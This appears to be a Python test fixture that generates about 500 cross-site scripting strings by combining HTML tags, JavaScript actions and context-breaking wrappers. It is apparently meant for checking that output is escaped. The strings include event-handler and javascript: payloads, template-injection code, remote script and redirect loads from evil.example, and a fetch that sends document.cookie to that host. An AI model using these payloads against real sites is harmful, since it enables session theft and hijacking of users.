"""Five hundred texts that would act, were they not shown as text."""

from itertools import product

_ACTS = ("alert(1)", "confirm`1`", "fetch('//evil.example/'+document.cookie)", "top.location='//e'")
_TAGS = (
    "<script>{act}</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={act}>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><a xlink:href=javascript:{act}><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror={act}></style></mtext></math>",
    "<body onload={act}>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<iframe src=javascript:{act}></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button autofocus onfocus={act}>x</button></form>",
    "<input autofocus onfocus={act}>",
    "<details open ontoggle={act}>x</details>",
    "<a href=javascript:{act}>x</a>",
    "<video><source onerror={act}></video>",
    "<audio src=x onerror={act}>",
    "<template><script>{act}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'></noscript>",
    "<!--><img src=x onerror={act}>-->",
    "{{{{constructor.constructor('{act}')()}}}}",
    "javascript:{act}",
)
_AROUND = ("{}", '">{}', "'>{}", "</pre></details>{}", "]]>{}", "\x1b[31m{}\x1b[0m", "\u202e{}")

_ALL = (
    around.replace("{}", tag.replace("{act}", act).replace("{{{{", "{{").replace("}}}}", "}}"))
    for tag, act, around in product(_TAGS, _ACTS, _AROUND)
)
PAYLOADS = tuple(dict.fromkeys(_ALL))[:500]
